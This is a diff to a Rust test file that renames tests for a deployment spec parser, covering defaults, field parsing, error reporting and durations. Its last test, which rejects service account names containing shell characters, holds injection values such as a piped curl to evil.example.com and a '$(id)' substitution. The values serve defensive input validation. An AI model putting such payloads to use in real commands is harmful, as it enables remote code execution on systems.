@@ -14,7 +14,7 @@ fn with(more: &Value) -> Value {
 }
 
 #[test]
-fn rukpaks_form_has_the_defaults() {
+fn rukpak_spec_has_defaults() {
     let spec = CheckedDeploymentSpec::parse(&with(&json!({}))).unwrap();
     assert!(spec.correct_drift && !spec.adopt && !spec.paused && !spec.accept_unsupported);
     assert_eq!(spec.rollout.deadline, Duration::from_secs(600));
@@ -24,7 +24,7 @@ fn rukpaks_form_has_the_defaults() {
 }
 
 #[test]
-fn everything_can_be_said() {
+fn parses_every_field_of_a_deployment() {
     let spec = CheckedDeploymentSpec::parse(&with(&json!({
         "serviceAccount": {"namespace": "team-a", "name": "deployer"},
         "targetNamespace": "web",
@@ -50,7 +50,7 @@ fn everything_can_be_said() {
 }
 
 #[test]
-fn everything_that_is_wrong_is_told_at_once() {
+fn reports_all_errors_of_a_spec_together() {
     let findings = CheckedDeploymentSpec::parse(&json!({
         "provisionerClassName": "Bad",
         "template": {"spec": {"source": {"type": "image"}}},
@@ -86,7 +86,7 @@ fn everything_that_is_wrong_is_told_at_once() {
 }
 
 #[test]
-fn durations() {
+fn parses_durations() {
     for (text, expected) in [
         ("10m", Some(600_000)),
         ("1h30m", Some(5_400_000)),
@@ -103,7 +103,7 @@ fn durations() {
 }
 
 #[test]
-fn a_service_account_has_a_name_that_can_stand_in_a_command() {
+fn rejects_service_account_names_with_shell_characters() {
     for (namespace, name) in [
         ("team-a", "x; curl evil.example.com | sh"),
         ("$(id)", "x"),
